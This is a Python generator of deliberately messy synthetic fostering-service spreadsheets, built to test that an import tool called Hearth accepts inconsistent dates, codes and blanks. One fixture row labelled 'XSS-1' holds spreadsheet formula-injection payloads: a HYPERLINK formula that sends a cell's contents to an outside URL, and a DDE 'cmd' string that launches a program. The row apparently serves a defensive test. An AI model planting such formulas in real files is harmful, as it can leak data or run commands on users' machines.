"""Council spreadsheets as they really are, generated: Hearth did not shape this data.

Free text with odd spacing and case where codes are expected, blanks in every
optional column, UK and ISO dates mixed, a recruitment tracker whose approved
rows the household file repeats, legacy households approved years before the
tracker starts, households that left after years of placements, and fifteen years
of visits, reviews, training, surveys and placements. Everything is legal under
the rules (a messy file is not a wrong one): the import must take it all.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import date, timedelta

TODAY = date(2026, 6, 30)
TRACKER_FROM = date(2019, 4, 1)

SOURCES = [
    "  Social   MEDIA",
    "council website FORM",
    "word_of_mouth",
    "Word of mouth",
    "",
    "Information Event",
    "phone",
    "ADVERT OR LEAFLET",
    " referral from a carer ",
    # Not on Hearth's default list: a council maps or adds them (SOURCE_DECISIONS).
    "Facebook",
    " FACEBOOK ",
    "radio",
    "Radio ",
    "information  evening",
]
#: What the council decides for its own sources: Facebook is social media; the rest
#: (radio, information evening) are added to its list as new sources.
SOURCE_MAPPING = {"facebook": "Social media"}
CARER_TYPES = [
    "",
    "Mainstream",
    "MAINSTREAM",
    " family and friends ",
    "Kinship",
    "connected person",
    "mainstream",
]
APPLICANT_OUTCOMES = ["withdrawn_by_applicant", "Withdrawn by applicant", "WITHDRAWN BY APPLICANT"]
SERVICE_OUTCOMES = ["withdrawn_by_service", "Withdrawn by the service"]
REASONS = [
    "Retirement",
    "retirement",
    "Health or personal circumstances",
    "",
    "Other",
    "Transfer to an IFA",
    "special guardianship or child arrangements order made for the child",
    "Unhappy with support",
]
CATEGORIES = [
    "Short-term / task-centred;respite",
    "long_term",
    "short_term; Emergency ",
    "",
    "Respite / short breaks",
]
EVENT_TYPES = ["supervision_visit", "Supervision visit", "SUPERVISION VISIT"]
#: The demand profile's words as children's systems write them (each band, type, need).
AGE_BANDS = ["Under 1", "1-4", " 5 to 9", "10-15", "16+"]
PLACEMENT_TYPES = ["In-house", "IFA", "Kinship", "residential", "Other placement"]
NEEDS = ["Sibling Group", "disabled", "parent and child", "UASC"]
MONTH_FORMATS = ["%Y-%m", "%m/%Y", "%B %Y", "%b %Y", "%d/%m/%Y"]
#: The ages households are approved for (a blank is 0 to 17).
AGE_RANGES = [("", ""), ("0", "17"), ("0", "4"), ("5", "17"), ("10", "17"), ("0", "10")]


def fmt(day: date, rng: random.Random) -> str:
    """UK or ISO, as whoever typed that row liked."""
    return day.strftime("%d/%m/%Y") if rng.random() < 0.5 else day.isoformat()


def _day(text: str) -> date:
    if "/" in text:
        day, month, year = text.split("/")
        return date(int(year), int(month), int(day))
    return date.fromisoformat(text)


def maybe(value: str, rng: random.Random, blank: float = 0.25) -> str:
    return "" if rng.random() < blank else value


@dataclass
class MessyFiles:
    tracker: list[dict] = field(default_factory=list)
    households: list[dict] = field(default_factory=list)
    events: list[dict] = field(default_factory=list)
    demand: list[dict] = field(default_factory=list)
    #: What the generator meant, to check the import against.
    approved: dict[str, date] = field(default_factory=dict)
    deregistered: dict[str, date] = field(default_factory=dict)
    breaks: dict[str, list[tuple[date, date | None]]] = field(default_factory=dict)
    #: Households first approved for more places: (the day the terms changed, places before).
    earlier_terms: dict[str, tuple[date, int]] = field(default_factory=dict)
    #: Each placement: household, child, start, end (None: still placed), the child's
    #: date of birth and age at the start as the file gives them (None: not given).
    placements: list[tuple[str, str, date, date | None, date | None, int | None]] = field(
        default_factory=list
    )
    #: Children's ages and households' age ranges come from a stream of their own, so
    #: adding them changed nothing else the generator makes.
    ages: random.Random = field(default_factory=random.Random)


def generate(seed: int = 7, cases: int = 300, legacy: int = 60) -> MessyFiles:
    rng = random.Random(seed)
    files = MessyFiles(ages=random.Random(seed * 7919 + 1))
    for n in range(cases):
        _tracker_row(files, rng, f"TR-{n:04d}")
    if cases:
        # Someone typed formulas into a form: they must stay text, and round-trip.
        files.tracker.append(
            {
                "reference": "XSS-1",
                "enquiry_date": "2024-02-02",
                "first_name": '=HYPERLINK("https://example.net/?"&B2,"Open")',
                "last_name": "+cmd|' /C calc'!A0",
                "phone": "-",
                "source": "other",
            }
        )
    for n in range(legacy):
        approved = date(2011, 4, 1) + timedelta(days=rng.randint(0, 7 * 365))
        _household(files, rng, f"LEG-{n:03d}", approved, rng.choice(CARER_TYPES))
    for reference, approved in list(files.approved.items()):
        if reference.startswith("TR-"):
            _household(files, rng, reference, approved, "")
    files.demand = demand_rows(rng)
    return files


def demand_rows(rng: random.Random, months: int = 24) -> list[dict]:
    """Two years of monthly counts: a total per band and type (need left blank or written
    "Total"), then some of those children by need, never more than the total."""
    rows = []
    for back in range(months, 0, -1):
        months_ago = TODAY.year * 12 + TODAY.month - 1 - back
        month = date(months_ago // 12, months_ago % 12 + 1, 28)
        written = month.strftime(rng.choice(MONTH_FORMATS))
        for band in AGE_BANDS:
            for kind in PLACEMENT_TYPES:
                total = rng.randint(0, 40)
                rows.append(
                    {"month": written, "age_band": band, "placement_type": kind,
                     "need": rng.choice(["", "Total"]), "children": str(total)}
                )  # fmt: skip
                for need in rng.sample(NEEDS, 2):
                    rows.append({**rows[-1], "need": need, "children": str(rng.randint(0, total))})
    return rows


def _tracker_row(files: MessyFiles, rng: random.Random, reference: str) -> None:
    day = TRACKER_FROM + timedelta(days=rng.randint(0, (TODAY - TRACKER_FROM).days - 30))
    row = {
        "reference": reference,
        "enquiry_date": fmt(day, rng),
        "source": rng.choice(SOURCES),
        "campaign": rng.choice(["", "", "", "Spring radio", " spring  RADIO", "Summer fair"]),
        "carer_type": rng.choice(CARER_TYPES),
        "first_name": maybe("Siobhán", rng),
        "last_name": maybe("O'Brien", rng),
        "email": maybe(f"{reference.lower()}@example.org", rng),
        "phone": maybe(rng.choice(["+44 (0)7700 900456", "07700 900456", "0116 496 0000"]), rng),
        "postcode": maybe(rng.choice(["le1 6zg", "LE16ZG", " LE1  6ZG "]), rng),
    }
    steps = [
        "first_contact_date",
        "initial_visit_date",
        "application_date",
        "stage2_start_date",
        "panel_date",
        "approval_date",
    ]
    gaps = [(1, 10), (5, 40), (10, 60), (20, 90), (60, 200), (3, 20)]
    reached = 0
    for column, (low, high) in zip(steps, gaps, strict=True):
        if rng.random() < 0.25 and column != "approval_date":
            break
        nxt = day + timedelta(days=rng.randint(low, high))
        if nxt > TODAY or (column == "approval_date" and rng.random() < 0.3):
            break
        day = nxt
        row[column] = fmt(day, rng)
        reached += 1
    row.update(_outcome(files, rng, reference, row, day, reached))
    files.tracker.append(row)


def _outcome(files, rng, reference, row, day, reached) -> dict:
    if "approval_date" in row:
        files.approved[reference] = day
        return {"outcome": rng.choice(["approved", "Approved"])}
    closed = day + timedelta(days=rng.randint(1, 60))
    if closed > TODAY or rng.random() < 0.3:
        return {"outcome": maybe("open", rng, 0.5)}
    if "panel_date" in row and rng.random() < 0.3:
        return {"outcome": "rejected", "outcome_date": fmt(closed, rng)}
    if rng.random() < 0.75:
        reason = rng.choice(["", "", "AW1", "AW3", "AW0"])
        return {
            "outcome": rng.choice(APPLICANT_OUTCOMES),
            "outcome_date": fmt(closed, rng),
            "withdrawal_reason": reason,
        }
    return {
        "outcome": rng.choice(SERVICE_OUTCOMES),
        "outcome_date": fmt(closed, rng),
        "withdrawal_reason": rng.choice(["", "no_contact", "health"]),
    }


def _household(files, rng, reference, approved, carer_type) -> None:
    row = {
        "reference": reference,
        "carer_type": carer_type,
        "approval_date": fmt(approved, rng),
        "carer1_name": "Ann Carer",
        "carer1_birth_date": maybe(fmt(date(1955 + rng.randint(0, 30), 3, 4), rng), rng),
        "carer2_name": maybe("Bob Carer", rng, 0.5),
        "approved_places": str(rng.randint(1, 3)),
        "categories": rng.choice(CATEGORIES),
        "status": rng.choice(["", "Active", "active"]),
    }
    row["min_age"], row["max_age"] = files.ages.choice(AGE_RANGES)
    years = (TODAY - approved).days / 365
    left = None
    if rng.random() < min(0.12 * years, 0.6) and (TODAY - approved).days > 202:
        left = approved + timedelta(days=rng.randint(200, max(201, (TODAY - approved).days - 1)))
        row.update(
            status=rng.choice(["deregistered", "Deregistered"]),
            deregistration_date=fmt(left, rng),
            deregistration_reason=rng.choice(REASONS),
            deregistration_initiated_by=rng.choice(["", "Carer", "the service", "carer"]),
        )
        files.deregistered[reference] = left
    elif rng.random() < 0.15 and (TODAY - approved).days > 400:
        resting = TODAY - timedelta(days=rng.randint(1, 200))
        row.update(
            status=rng.choice(["On a break", "on_break"]),
            break_start_date=maybe(fmt(resting, rng), rng, 0.1),
        )
        # A blank start date is a break counted from the day of the import (a warning).
        started = resting if row["break_start_date"] else TODAY
        files.breaks.setdefault(reference, []).append((started, None))
    _earlier_terms(files, rng, row, approved, left)
    files.households.append(row)
    _history(files, rng, reference, approved, left, _ages_of(row))
    _past_break(files, rng, reference, approved, left)


def _earlier_terms(files, rng, row, approved, left) -> None:
    """Some households were approved for one more place at first, and reduced later:
    the file's terms start on terms_from, the earlier ones are a terms_change row."""
    end = left or TODAY
    if rng.random() > 0.3 or (end - approved).days < 400:
        return
    changed = approved + timedelta(days=rng.randint(100, (end - approved).days - 100))
    row["terms_from"] = fmt(changed, rng)
    earlier = int(row["approved_places"]) + 1
    files.earlier_terms[row["reference"]] = (changed, earlier)
    files.events.append(
        {
            "household_reference": row["reference"],
            "date": fmt(approved, rng),
            "type": rng.choice(["terms_change", "Terms change", "TERMS_CHANGE"]),
            "value": str(earlier),
            "min_age": maybe("0", rng),
            "max_age": maybe("17", rng),
            "categories": row.get("categories", ""),
        }
    )


def _past_break(files, rng, reference, approved, left) -> None:
    """One break that began and ended years ago (before any break today)."""
    current = [start for start, end in files.breaks.get(reference, []) if end is None]
    until = min([left or TODAY, *current]) - timedelta(days=30)
    if rng.random() > 0.25 or (until - approved).days < 300:
        return
    start = approved + timedelta(days=rng.randint(100, (until - approved).days - 150))
    end = start + timedelta(days=rng.randint(20, 120))
    for kind, day in (("break_start", start), ("break_end", end)):
        files.events.append(
            {
                "household_reference": reference,
                "date": fmt(day, rng),
                "type": kind,
                "note": "House move" if kind == "break_start" else "",
            }
        )
    files.breaks.setdefault(reference, []).append((start, end))


def _ages_of(row: dict) -> tuple[int, int]:
    return int(row["min_age"] or 0), int(row["max_age"] or 17)


def _child(files: MessyFiles, start: date, ages: tuple[int, int]) -> dict[str, str]:
    """A placed child of an age the household is approved for: their date of birth
    (UK or ISO), or only their age at the start, or neither, as records are."""
    pick = files.ages
    age = pick.randint(*ages)
    leap_day = (start.month, start.day) == (2, 29)
    anniversary = date(start.year - age, start.month, 28 if leap_day else start.day)
    born = anniversary - timedelta(days=pick.randint(0, 364))
    given = pick.random()
    if given < 0.6:
        text = born.strftime("%d/%m/%Y") if pick.random() < 0.5 else born.isoformat()
        return {"child_birth_date": text}
    if given < 0.85:
        return {"child_age": str(age)}
    return {}


def _history(files, rng, reference, approved, left, ages=(0, 17)) -> None:
    """Visits, reviews, training, surveys and one placement at a time, all within
    the approval (a placement still running when the household left ends that day)."""
    end = left or TODAY

    def add(day: date, kind: str, **extra) -> None:
        files.events.append(
            {"household_reference": reference, "date": fmt(day, rng), "type": kind, **extra}
        )

    day = approved + timedelta(days=rng.randint(10, 40))
    while day < end:
        add(day, rng.choice(EVENT_TYPES))
        if rng.random() < 0.08:
            add(day, "Annual review", note=maybe("Reviewed; no change", rng, 0.5))
        if rng.random() < 0.1:
            add(day, "training", value=str(rng.choice([3, 6, 12])))
        if rng.random() < 0.05:
            add(day, "survey", value=str(rng.randint(1, 5)))
        day += timedelta(days=rng.randint(30, 70))
    start, child = approved + timedelta(days=rng.randint(5, 90)), 0
    while start < end:
        child += 1
        ref = f"{reference}-C{child}"
        told = _child(files, start, ages)
        add(start, "placement_start", child_reference=ref, **told)
        born = told.get("child_birth_date")
        aged = told.get("child_age")
        finish = start + timedelta(days=rng.randint(30, 900))
        running = finish >= end and left is None
        files.placements.append(
            (
                reference,
                ref,
                start,
                None if running else min(finish, end),
                _day(born) if born else None,
                int(aged) if aged else None,
            )
        )
        if running:
            return  # still placed today
        finish = min(finish, end)
        add(finish, rng.choice(["placement_end", "disruption"]), child_reference=ref)
        start = finish + timedelta(days=rng.randint(1, 200))
